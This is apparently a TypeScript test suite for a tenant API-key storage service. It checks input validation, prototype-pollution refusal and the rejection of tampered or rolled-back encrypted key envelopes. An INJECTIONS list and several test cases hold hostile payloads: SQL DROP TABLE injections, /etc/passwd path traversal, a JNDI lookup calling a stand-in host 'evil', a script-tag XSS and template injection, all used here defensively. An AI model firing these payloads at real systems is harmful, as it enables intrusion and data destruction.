import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDatabase } from '../../../../test/harness/index.js';
import { startKeyService, type RunningKeyService } from '../../../../test/harness/key-service.js';
import { call, errorOf, fakeProviderKey, type HttpResult } from '../support/http.js';

let svc: RunningKeyService;
let db: pg.Client;
let worker: string;
const storedKey = fakeProviderKey('openai');

beforeAll(async () => {
  const postgres = await createDatabase('ks_badinput');
  svc = await startKeyService({ postgres });
  db = new pg.Client({ connectionString: postgres.url });
  await db.connect();
  worker = await svc.mintWorkerToken();
  const res = await call(svc.url, '/v1/tenants/victim/keys/openai', {
    method: 'PUT',
    token: svc.adminToken,
    body: { apiKey: storedKey },
  });
  expect(res.status).toBe(200);
});

afterAll(async () => {
  await db?.end();
  await svc?.stop();
});

async function rowCount(): Promise<number> {
  const { rows } = await db.query<{ n: string }>('SELECT count(*) AS n FROM tenant_keys');
  return Number(rows[0]?.n);
}

async function expectClientError(
  res: HttpResult,
  status: number,
  code: string,
  mention?: string | RegExp,
): Promise<void> {
  expect(res.status).toBe(status);
  const error = errorOf(res);
  expect(error.code).toBe(code);
  if (typeof mention === 'string') expect(error.message).toContain(mention);
  if (mention instanceof RegExp) expect(error.message).toMatch(mention);
  // The service is still up and the stored key still serves.
  expect((await call(svc.url, '/healthz')).status).toBe(200);
}

/** encodeURIComponent refuses lone surrogates; send their (invalid) UTF-8 bytes instead. */
function percentEncode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

const INJECTIONS = [
  "'; DROP TABLE tenant_keys; --",
  "x' OR '1'='1",
  '../../etc/passwd',
  '${jndi:ldap://evil/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  'a\u0000b',
  '\ud800',
  'tenant|openai|1',
];

describe('bad input on the admin API', () => {
  it('should refuse malformed JSON with MALFORMED_JSON and store nothing', async () => {
    const before = await rowCount();
    const res = await call(svc.url, '/v1/tenants/t1/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      raw: '{"apiKey": "sk-abc',
    });
    await expectClientError(res, 400, 'MALFORMED_JSON');
    expect(await rowCount()).toBe(before);
  });

  it('should refuse non-UTF-8 bytes with INVALID_ENCODING and store nothing', async () => {
    const before = await rowCount();
    const raw = Buffer.concat([
      Buffer.from('{"apiKey":"sk-abcdefgh'),
      Buffer.from([0xff, 0xfe, 0xc3]),
      Buffer.from('"}'),
    ]);
    const res = await call(svc.url, '/v1/tenants/t1/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      raw: new Uint8Array(raw),
    });
    await expectClientError(res, 400, 'INVALID_ENCODING');
    expect(await rowCount()).toBe(before);
  });

  it('should refuse a body over 16 KiB with PAYLOAD_TOO_LARGE', async () => {
    const res = await call(svc.url, '/v1/tenants/t1/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: 'k'.repeat(17 * 1024) },
    });
    await expectClientError(res, 413, 'PAYLOAD_TOO_LARGE', '16384');
  });

  it('should refuse a non-JSON content type with UNSUPPORTED_MEDIA_TYPE', async () => {
    const res = await call(svc.url, '/v1/tenants/t1/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      raw: 'apiKey=sk-abc',
      contentType: 'application/x-www-form-urlencoded',
    });
    await expectClientError(res, 415, 'UNSUPPORTED_MEDIA_TYPE');
  });

  it.each([
    ['a number', { apiKey: 12345678 }, 'apiKey must be a string'],
    ['a missing field', {}, 'apiKey is required'],
    ['a too short key', { apiKey: 'sk-1' }, 'apiKey must be at least 8 characters'],
    ['a key with spaces', { apiKey: 'sk-abc def ghi' }, 'apiKey must be printable ASCII'],
    ['a key with a NUL byte', { apiKey: 'sk-abcdef\u0000gh' }, 'apiKey must be printable ASCII'],
    ['a key with non-ASCII', { apiKey: 'sk-abcdéfghij' }, 'apiKey must be printable ASCII'],
    ['an unknown field', { apiKey: 'sk-abcdefgh', admin: true }, 'unknown field(s) "admin"'],
    [
      'a __proto__ field',
      JSON.parse('{"apiKey":"sk-abcdefgh","__proto__":{"isAdmin":true}}') as unknown,
      'unknown field(s) "__proto__"',
    ],
  ])('should refuse %s in the body with a message naming the field', async (_label, body, message) => {
    const before = await rowCount();
    const res = await call(svc.url, '/v1/tenants/t1/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      body,
    });
    await expectClientError(res, 400, 'INVALID_REQUEST', message);
    expect(await rowCount()).toBe(before);
  });

  it.each([
    ['an array', []],
    ['a string', 'sk-abcdefgh'],
    ['null', null],
  ])('should refuse %s as the body', async (_label, body) => {
    const res = await call(svc.url, '/v1/tenants/t1/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      raw: JSON.stringify(body),
    });
    await expectClientError(res, 400, 'INVALID_REQUEST', 'request body must be a JSON object');
  });

  it('should refuse an unknown provider in the path naming the allowed ones', async () => {
    const res = await call(svc.url, '/v1/tenants/t1/keys/mistral', {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: 'sk-abcdefgh' },
    });
    await expectClientError(res, 400, 'INVALID_REQUEST', 'provider must be one of openai, anthropic');
  });

  it.each(INJECTIONS)(
    'should refuse the injection string %j as a tenant id and store nothing',
    async (injection) => {
      const before = await rowCount();
      const res = await call(svc.url, `/v1/tenants/${percentEncode(injection)}/keys/openai`, {
        method: 'PUT',
        token: svc.adminToken,
        body: { apiKey: 'sk-abcdefgh' },
      });
      await expectClientError(res, 400, 'INVALID_REQUEST', /tenantId|URL path is not valid/);
      expect(await rowCount()).toBe(before);
    },
  );

  it('should store an injection-shaped key verbatim as data, leaving the tables intact', async () => {
    const apiKey = "sk-x');DROP/**/TABLE/**/tenant_keys;--";
    const put = await call(svc.url, '/v1/tenants/inj/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey },
    });
    expect(put.status).toBe(200);
    const got = await call(svc.url, '/v1/keys/acquire', {
      token: worker,
      body: { tenantId: 'inj', provider: 'openai' },
    });
    expect((got.json as { apiKey: string }).apiKey).toBe(apiKey);
    expect(await rowCount()).toBeGreaterThan(0);
  });
});

describe('bad input on the worker API', () => {
  it.each(INJECTIONS)('should refuse the injection string %j in tenantId', async (injection) => {
    const res = await call(svc.url, '/v1/keys/acquire', {
      token: worker,
      body: { tenantId: injection, provider: 'openai' },
    });
    await expectClientError(res, 400, 'INVALID_REQUEST', 'tenantId');
  });

  it.each(INJECTIONS)('should refuse the injection string %j in provider', async (injection) => {
    const res = await call(svc.url, '/v1/keys/acquire', {
      token: worker,
      body: { tenantId: 'victim', provider: injection },
    });
    await expectClientError(res, 400, 'INVALID_REQUEST', 'provider');
  });

  it.each(INJECTIONS)('should refuse the injection string %j in outcome', async (injection) => {
    const res = await call(svc.url, '/v1/keys/report', {
      token: worker,
      body: { tenantId: 'victim', provider: 'openai', keyVersion: 1, outcome: injection },
    });
    await expectClientError(res, 400, 'INVALID_REQUEST', 'outcome must be one of');
  });

  it.each([
    ['keyVersion as a string', { keyVersion: '1' }, 'keyVersion must be a positive integer'],
    ['keyVersion as a fraction', { keyVersion: 1.5 }, 'keyVersion must be a positive integer'],
    ['keyVersion zero', { keyVersion: 0 }, 'keyVersion must be a positive integer'],
    [
      'keyVersion injection',
      { keyVersion: '1; DROP TABLE key_breakers' },
      'keyVersion must be a positive integer',
    ],
    ['negative retryAfterSeconds', { retryAfterSeconds: -1 }, 'retryAfterSeconds must not be negative'],
    [
      'retryAfterSeconds as a string',
      { retryAfterSeconds: '30' },
      'retryAfterSeconds must be a number of seconds',
    ],
    ['tenantId as a number', { tenantId: 42 }, 'tenantId must be a string'],
  ])('should refuse %s in a report and leave the breaker untouched', async (_label, patch, message) => {
    const body = { tenantId: 'victim', provider: 'openai', keyVersion: 1, outcome: 'auth_failure', ...patch };
    const res = await call(svc.url, '/v1/keys/report', { token: worker, body });
    await expectClientError(res, 400, 'INVALID_REQUEST', message);
    const { rows } = await db.query<{ failures: number }>(
      "SELECT failures FROM key_breakers WHERE tenant_id = 'victim'",
    );
    expect(rows[0]?.failures).toBe(0);
  });

  it('should refuse malformed JSON on acquire', async () => {
    const res = await call(svc.url, '/v1/keys/acquire', { token: worker, raw: '{tenantId: victim}' });
    await expectClientError(res, 400, 'MALFORMED_JSON');
  });

  it('should refuse non-UTF-8 bytes on report', async () => {
    const raw = Buffer.concat([
      Buffer.from('{"tenantId":"vic'),
      Buffer.from([0xc0, 0xaf]),
      Buffer.from('tim"}'),
    ]);
    const res = await call(svc.url, '/v1/keys/report', { token: worker, raw: new Uint8Array(raw) });
    await expectClientError(res, 400, 'INVALID_ENCODING');
  });

  it('should refuse an oversized acquire body', async () => {
    const res = await call(svc.url, '/v1/keys/acquire', {
      token: worker,
      body: { tenantId: 'victim', provider: 'openai', pad: 'x'.repeat(20_000) },
    });
    await expectClientError(res, 413, 'PAYLOAD_TOO_LARGE');
  });
});

describe('tampered storage', () => {
  async function envelopeOf(tenantId: string): Promise<Record<string, Buffer | number>> {
    const { rows } = await db.query<Record<string, Buffer | number>>(
      'SELECT key_version, kek_version, wrapped_dek, nonce, ciphertext, auth_tag FROM tenant_keys WHERE tenant_id = $1',
      [tenantId],
    );
    return rows[0] ?? {};
  }

  async function writeEnvelope(
    tenantId: string,
    e: Record<string, Buffer | number | undefined>,
  ): Promise<void> {
    await db.query(
      'UPDATE tenant_keys SET key_version = $2, kek_version = $3, wrapped_dek = $4, nonce = $5, ciphertext = $6, auth_tag = $7 WHERE tenant_id = $1',
      [tenantId, e.key_version, e.kek_version, e.wrapped_dek, e.nonce, e.ciphertext, e.auth_tag],
    );
  }

  async function expectRefusedAcquire(tenantId: string): Promise<void> {
    const res = await call(svc.url, '/v1/keys/acquire', {
      token: worker,
      body: { tenantId, provider: 'openai' },
    });
    expect(res.status).toBe(500);
    expect(res.json).toEqual({
      error: { code: 'KEY_DECRYPTION_FAILED', message: 'the stored key could not be decrypted' },
    });
  }

  it('should refuse every single-byte flip of the stored ciphertext, nonce, tag and wrapped data key', async () => {
    const tenantId = 'tamper-bytes';
    const key = fakeProviderKey('openai');
    await call(svc.url, `/v1/tenants/${tenantId}/keys/openai`, {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: key },
    });
    const original = await envelopeOf(tenantId);
    for (const column of ['nonce', 'ciphertext', 'auth_tag', 'wrapped_dek'] as const) {
      const bytes = original[column] as Buffer;
      for (let i = 0; i < bytes.length; i += 1) {
        const copy = Buffer.from(bytes);
        copy[i] = (copy[i] ?? 0) ^ 0x80;
        await writeEnvelope(tenantId, { ...original, [column]: copy });
        await expectRefusedAcquire(tenantId);
      }
    }
    await writeEnvelope(tenantId, original);
    const ok = await call(svc.url, '/v1/keys/acquire', {
      token: worker,
      body: { tenantId, provider: 'openai' },
    });
    expect((ok.json as { apiKey: string }).apiKey).toBe(key);
  });

  it('should refuse a stored tag truncated to 4 bytes', async () => {
    const tenantId = 'tamper-tag';
    await call(svc.url, `/v1/tenants/${tenantId}/keys/openai`, {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: fakeProviderKey('openai') },
    });
    const original = await envelopeOf(tenantId);
    await writeEnvelope(tenantId, { ...original, auth_tag: (original.auth_tag as Buffer).subarray(0, 4) });
    await expectRefusedAcquire(tenantId);
  });

  it("should refuse another tenant's envelope copied into this tenant's row", async () => {
    await call(svc.url, '/v1/tenants/copy-target/keys/openai', {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: fakeProviderKey('openai') },
    });
    await writeEnvelope('copy-target', { ...(await envelopeOf('victim')), key_version: 1 });
    await expectRefusedAcquire('copy-target');
  });

  it('should refuse an older version of the envelope rolled back into the current version', async () => {
    const tenantId = 'rollback';
    await call(svc.url, `/v1/tenants/${tenantId}/keys/openai`, {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: fakeProviderKey('openai') },
    });
    const v1 = await envelopeOf(tenantId);
    await call(svc.url, `/v1/tenants/${tenantId}/keys/openai`, {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: fakeProviderKey('openai') },
    });
    await writeEnvelope(tenantId, { ...v1, key_version: 2 });
    await expectRefusedAcquire(tenantId);
  });

  it('should refuse an envelope labelled with an unknown KEK version', async () => {
    const tenantId = 'unknown-kek';
    await call(svc.url, `/v1/tenants/${tenantId}/keys/openai`, {
      method: 'PUT',
      token: svc.adminToken,
      body: { apiKey: fakeProviderKey('openai') },
    });
    await writeEnvelope(tenantId, { ...(await envelopeOf(tenantId)), kek_version: 99 });
    await expectRefusedAcquire(tenantId);
  });

  it('should audit a refused decryption', async () => {
    const { rows } = await db.query<{ n: string }>(
      "SELECT count(*) AS n FROM audit_log WHERE outcome = 'decryption_refused'",
    );
    expect(Number(rows[0]?.n)).toBeGreaterThan(0);
  });
});
